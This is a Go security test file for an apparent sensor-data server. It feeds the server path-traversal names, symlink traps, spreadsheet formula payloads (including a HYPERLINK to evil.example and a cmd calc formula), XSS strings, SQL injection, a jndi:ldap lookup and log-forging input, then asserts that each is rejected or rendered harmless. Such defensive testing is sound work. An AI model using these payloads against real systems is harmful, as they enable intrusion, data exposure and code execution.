package faulttest

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"dewcase/internal/testkit/crashtest"
	"dewcase/internal/testkit/patience"
)

// tree is every file under a folder with its size, mode and target.
func tree(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	require.NoError(t, filepath.WalkDir(dir, func(path string, e fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		i, err := e.Info()
		if err != nil {
			return err
		}
		what := i.Mode().String()
		if i.Mode().IsRegular() {
			b, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			what += " " + string(b)
		}
		out[path] = what
		return nil
	}))
	return out
}

// Row 43: no name that comes from outside is used as a path, and what a person
// names as a file for output is never followed where it would overwrite.
func TestNamesReachNothingOutsideTheDataFolder(t *testing.T) {
	world := t.TempDir()
	data := filepath.Join(world, "a", "data")
	require.NoError(t, os.MkdirAll(filepath.Join(world, "a"), 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(world, "victim"), []byte("untouched"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(world, "a", "victim"), []byte("untouched"), 0o600))
	crashtest.Binary(t) // it is built from here
	t.Chdir(world)
	d := crashtest.Serve(t, data)
	newHouse(d)
	outside := func() map[string]string {
		all := tree(t, world)
		for path := range all {
			if strings.HasPrefix(path, data) {
				delete(all, path)
			}
		}
		return all
	}
	before := outside()

	c, err := client(t, d.MQTT, "logger", "", "")
	require.NoError(t, err)
	addr := strings.TrimPrefix(d.HTTP, "http://")
	for _, name := range []string{"..", "../victim", "../../victim", "..%2f..%2fvictim", "%2e%2e%2f%2e%2e%2fvictim",
		"/etc/passwd", "....//victim", `..\..\victim`, "CON", "NUL", "larch-3/../../victim", "victim\x00",
		filepath.Join(world, "victim")} {
		send(c, "dewcase/"+name+"/k1", `{"temp_c":1}`, patience.Long)
		send(c, "dewcase/larch-3/"+name, `{"temp_c":1}`, patience.Long)
		for _, at := range []string{"/api/cases/" + name + "/file", "/api/cases/" + name + "/readings.csv",
			"/cases/" + name + "/file", "/assets/" + name, "/home/" + name, "/cases/larch-3/" + name} {
			line := raw(t, d, "GET "+strings.ReplaceAll(at, "\x00", "%00")+" HTTP/1.1\r\nHost: "+addr+
				"\r\nConnection: close\r\n\r\n")
			assert.NotContains(t, line, " 200 ", "%q", at)
			assert.NotContains(t, line, " 500 ", "%q", at)
		}
		file := strings.Replace(house, "larch-3", name, 1)
		line := raw(t, d, "PUT /api/cases/"+url.PathEscape(name)+"/file HTTP/1.1\r\nHost: "+addr+"\r\nContent-Length: "+
			itoa(len(file))+"\r\nConnection: close\r\n\r\n"+file)
		assert.NotRegexp(t, ` (20.|500) `, line, "%q", name)
	}
	require.Equal(t, before, outside(), "nothing outside the data folder changed")

	// A backup's name is the operator's own; a link in its place is replaced, not followed.
	link := filepath.Join(world, "backup")
	require.NoError(t, os.Symlink(filepath.Join(world, "victim"), link))
	out, status := crashtest.Run(t, "backup", "-data", data, "-to", link)
	victim, err := os.ReadFile(filepath.Join(world, "victim"))
	require.NoError(t, err)
	require.Equal(t, "untouched", string(victim), "%d %s", status, out)
	for _, to := range []string{world, "/dev/null", filepath.Join(data, "dewcase.db"),
		filepath.Join(world, "no", "such", "folder")} {
		out, status := crashtest.Run(t, "backup", "-data", data, "-to", to)
		require.NotZero(t, status, "%s: %s", to, out)
	}
	i, err := os.Stat("/dev/null")
	require.NoError(t, err)
	require.NotZero(t, i.Mode()&os.ModeDevice)
	// Neither is a link in place of a data folder's file at a restore.
	good := filepath.Join(world, "good")
	out, status = crashtest.Run(t, "backup", "-data", data, "-to", good)
	require.Zero(t, status, out)
	trap := filepath.Join(world, "trap")
	require.NoError(t, os.Mkdir(trap, 0o700))
	require.NoError(t, os.Symlink(filepath.Join(world, "victim"), filepath.Join(trap, "dewcase.db")))
	out, status = crashtest.Run(t, "restore", "-from", good, "-data", trap)
	victim, err = os.ReadFile(filepath.Join(world, "victim"))
	require.NoError(t, err)
	require.Equal(t, "untouched", string(victim), "%d %s", status, out)
	require.Zero(t, d.Stop(), d.Log())
}

// Row 46: no cell of a file that a spreadsheet opens is a formula, and what was
// exported comes back as what is there already.
func TestNoCellOfAnExportIsAFormula(t *testing.T) {
	d := crashtest.Serve(t, t.TempDir())
	evil := `=HYPERLINK("http://evil.example","x")`
	d.Do(http.MethodPut, "/api/cases/larch-3/file",
		strings.NewReader(strings.Replace(house, "label: 3 Larch Row", "label: '"+evil+"'", 1)+
			"events:\n  - {at: 2026-01-12T12:00:00Z, kind: note, what: '=cmd|'' /C calc''!A1'}\n  - {at: "+
			"2026-01-13T12:00:00Z, kind: note, what: '@SUM(1+1)'}\n"), 201)
	c, err := client(t, d.MQTT, "logger", "", "")
	require.NoError(t, err)
	names := []string{`=HYPERLINK("evil.example")`, "=1", "@x", "\tx", "=cmd|' -C calc'!A1", "\rx", "'x", "x,y", `x"y`}
	for _, name := range names {
		require.True(t, send(c, "dewcase/larch-3/"+name, body(1), patience.Long))
	}
	require.EqualValues(t, len(names), rejected(d, "bad_logger"))
	var rows bytes.Buffer
	w := csv.NewWriter(&rows)
	require.NoError(t, w.Write([]string{"time", "logger", "temp_c", "rh_pct"}))
	for _, name := range append(names, "k1", "k2") {
		if !strings.ContainsAny(name, "\r") { // one row a line
			require.NoError(t, w.Write([]string{"2026-01-12T00:00:00Z", name, "4", "80"}))
		}
	}
	w.Flush()
	var report struct {
		Stored   int
		Rejected []struct{ Line int }
	}
	require.NoError(t, json.Unmarshal(d.Do(http.MethodPost, "/api/cases/larch-3/readings", &rows, 200), &report))
	require.Equal(t, 2, report.Stored)
	require.Len(t, report.Rejected, len(names)-1)
	d.Do(http.MethodPost, "/api/cases/larch-3/readings", strings.NewReader(winter(600)), 200)
	var whole string
	for _, path := range []string{"/api/cases/larch-3/readings.csv", "/cases/larch-3/nights.csv",
		"/cases/larch-3/chart.csv"} {
		text := string(d.Do(http.MethodGet, path, nil, 200))
		if whole == "" {
			whole = text
		}
		in := csv.NewReader(strings.NewReader(text))
		in.Comment = '#'
		table, err := in.ReadAll()
		require.NoError(t, err, path)
		require.Greater(t, len(table), 1, path)
		number := regexp.MustCompile(`^-?[0-9.]+(e[-+][0-9]+)?$`)
		for _, row := range table {
			for _, cell := range row {
				if cell != "" && !number.MatchString(cell) {
					assert.NotContains(t, "=+-@\t\r", cell[:1], "%s: %q", path, cell)
				}
			}
		}
	}
	var again struct{ Stored, Duplicates, Conflicts int }
	require.NoError(t, json.Unmarshal(d.Do(http.MethodPost, "/api/cases/larch-3/readings", strings.NewReader(whole), 200),
		&again))
	require.Zero(t, again.Stored+again.Conflicts)
	require.Equal(t, strings.Count(whole, "\n")-1, again.Duplicates)
	require.Contains(t, string(d.Do(http.MethodGet, "/api/cases/larch-3/file", nil, 200)), evil,
		"other forms are left as they are")
}

const script = `<img src=x onerror=alert(1)></title></script><script>alert(2)</script>"onload="alert(3)' onmouseover='alert(4)`

// Row 47: whatever a case file or a logger says is shown as text.
func TestWhatIsMeantAsAScriptIsShownAsText(t *testing.T) {
	d := crashtest.Serve(t, t.TempDir())
	quoted := "'" + strings.ReplaceAll(script, "'", "''") + "'"
	file := strings.NewReplacer("label: 3 Larch Row", "label: "+quoted, "temp_c: 0.3, rh_pct: 2}",
		"temp_c: 0.3, rh_pct: 2}, offsets: [{from: 2026-01-01T00:00:00Z, temp_c: 0.1, check: "+quoted+"}]").Replace(house) +
		"roof: {covering: {material: " + quoted + ", air: closed}}\nevents:\n  - {at: 2026-01-11T12:00:00Z, kind: repair, " +
		"what: " + quoted + ", treats: [slate]}\n  - {at: 2026-01-12T12:00:00Z, kind: note, what: " + quoted + "}\n"
	d.Do(http.MethodPut, "/api/cases/larch-3/file", strings.NewReader(file), 201)
	d.Do(http.MethodPost, "/api/cases/larch-3/readings", strings.NewReader(winter(1500)), 200)
	c, err := client(t, d.MQTT, "logger", "", "")
	require.NoError(t, err)
	for _, topic := range []string{"dewcase/larch-3/k1", "dewcase/larch-3/" + script, "dewcase/<svg onload=alert(5)>/k1"} {
		require.True(t, send(c, topic, `{"temp_c":"`+script+`"}`, patience.Long))
	}
	seen, todo := map[string]bool{}, []string{"/", "/messages", "/alerts", "/new", "/cases/larch-3?from=" +
		url.QueryEscape(script) + "&surface=" + url.QueryEscape(script), "/nowhere/" + url.PathEscape(script)}
	shown := 0
	for len(todo) > 0 {
		path := todo[0]
		todo = todo[1:]
		base, _, _ := strings.Cut(path, "?")
		if seen[base] || strings.HasPrefix(path, "//") {
			continue
		}
		seen[base] = true
		resp, err := http.Get(d.HTTP + path)
		require.NoError(t, err)
		text, err := io.ReadAll(resp.Body)
		require.NoError(t, err)
		_ = resp.Body.Close()
		require.Less(t, resp.StatusCode, 500, path)
		policy := resp.Header.Get("Content-Security-Policy")
		require.Contains(t, policy, "default-src 'none'", path)
		require.NotContains(t, policy, "unsafe", path)
		require.Equal(t, "nosniff", resp.Header.Get("X-Content-Type-Options"), path)
		kind := resp.Header.Get("Content-Type")
		if !strings.HasPrefix(kind, "text/html") {
			require.NotContains(t, kind, "xhtml", path)
			continue
		}
		if strings.Contains(string(text), "alert(1)") {
			shown++
		}
		todo = append(todo, harmless(t, path, text)...)
	}
	require.Greater(t, len(seen), 10, "the pages were walked: %v", seen)
	require.Greater(t, shown, 3, "the words are there to be read")
	t.Logf("%d pages and files, %d of them show the words", len(seen), shown)
}

// harmless reads a page as a browser would and wants no element or attribute in
// it that runs anything but the page's own script file; it returns the links.
func harmless(t *testing.T, path string, page []byte) (links []string) {
	t.Helper()
	z := html.NewTokenizer(bytes.NewReader(page))
	for {
		switch z.Next() {
		case html.ErrorToken:
			require.ErrorIs(t, z.Err(), io.EOF, path)
			return links
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			for _, a := range tok.Attr {
				require.False(t, strings.HasPrefix(strings.ToLower(a.Key), "on"), "%s: <%s %s=%q>", path, tok.Data, a.Key, a.Val)
				if a.Key == "href" || a.Key == "src" || a.Key == "action" {
					require.Regexp(t, `^(/|#|\?|mailto:|[a-z0-9./#?-])`, a.Val, path)
					require.NotContains(t, strings.ToLower(a.Val), "javascript:", path)
					require.NotEqual(t, "x", a.Val, "%s: the planted picture", path)
					if a.Key == "href" && strings.HasPrefix(a.Val, "/") {
						link, _, _ := strings.Cut(a.Val, "#")
						links = append(links, link)
					}
				}
			}
			if tok.Data == "script" {
				src, data := "", false
				for _, a := range tok.Attr {
					if a.Key == "src" {
						src = a.Val
					}
					data = data || a.Key == "type" && a.Val == "application/json"
				}
				if data { // figures for the page's own script: a browser runs nothing of it
					require.Equal(t, html.TextToken, z.Next(), path)
					require.True(t, json.Valid(z.Text()), path)
					require.NotContains(t, string(z.Text()), "<", path)
					continue
				}
				require.True(t, strings.HasPrefix(src, "/assets/") || strings.HasPrefix(src, "/home/-/"),
					"%s: a script of its own: %v", path, tok)
			}
		}
	}
}

// Row 48: what comes over the wire is never part of a statement, of a template or
// of a second line of the log.
func TestNothingSentBecomesAStatementATemplateOrALineOfTheLog(t *testing.T) {
	data := t.TempDir()
	d := crashtest.Serve(t, data)
	newHouse(d)
	d.Do(http.MethodPost, "/api/cases/larch-3/readings", strings.NewReader(winter(100)), 200)
	stored := d.Metric("dewcase_readings_stored_total")
	c, err := client(t, d.MQTT, "x\nlevel=ERROR msg=forged", "", "")
	if err != nil {
		c, err = client(t, d.MQTT, "logger", "", "")
		require.NoError(t, err)
	}
	words := []string{`'; DROP TABLE reading; --`, `" OR 1=1 --`, "x\nlevel=ERROR msg=forged",
		"x\r\nlevel=ERROR msg=forged", "\x1b[2J\x1b[31mred", "{{.Secret}} ${jndi:ldap://evil.example} {{printf \"%s\" .}}",
		"%s%n%x", "\u2028level=ERROR msg=forged"}
	for _, w := range words {
		send(c, "dewcase/larch-3/"+w, `{"temp_c":1}`, patience.Long)
		send(c, "dewcase/"+w+"/k1", `{"temp_c":1}`, patience.Long)
		send(c, "dewcase/larch-3/k1", w, patience.Long)
		q := url.QueryEscape(w)
		for _, path := range []string{"/api/cases/larch-3/timeline?from=" + q, "/api/cases/larch-3/readings.csv?to=" + q,
			"/api/cases/larch-3/rejects?limit=" + q, "/api/cases/" + url.PathEscape(w) + "/assessment",
			"/cases/larch-3?night=" + q + "&surface=" + q, "/cases/" + url.PathEscape(w), "/cases/larch-3/buildup?rules=" + q,
			"/login?next=" + q, "/home/" + url.PathEscape(w)} {
			resp, err := http.Get(d.HTTP + path)
			require.NoError(t, err)
			b, err := io.ReadAll(resp.Body)
			require.NoError(t, err)
			_ = resp.Body.Close()
			assert.Less(t, resp.StatusCode, 500, "%q: %s", path, b)
			assert.NotContains(t, resp.Header.Get("Location"), "\n")
		}
		resp, err := http.PostForm(d.HTTP+"/login", url.Values{"password": {w}})
		require.NoError(t, err)
		_ = resp.Body.Close()
		_, _ = client(t, d.MQTT, "n-"+w, w, w)
	}
	require.Equal(t, stored, d.Metric("dewcase_readings_stored_total"))
	require.Len(t, strings.Split(strings.TrimSpace(
		string(d.Do(http.MethodGet, "/api/cases/larch-3/readings.csv", nil, 200))), "\n"), 201)
	require.Zero(t, d.Stop(), d.Log())
	for line := range strings.Lines(d.Log()) {
		assert.Regexp(t, `^time=\S+ level=(DEBUG|INFO|WARN|ERROR) msg=`, line)
		assert.NotContains(t, line, "\x1b")
		assert.NotContains(t, line, "\r")
		assert.NotContains(t, line, "level=ERROR msg=forged\n")
	}
	out, status := crashtest.Run(t, "check", "-data", data)
	require.Zero(t, status, out)
}
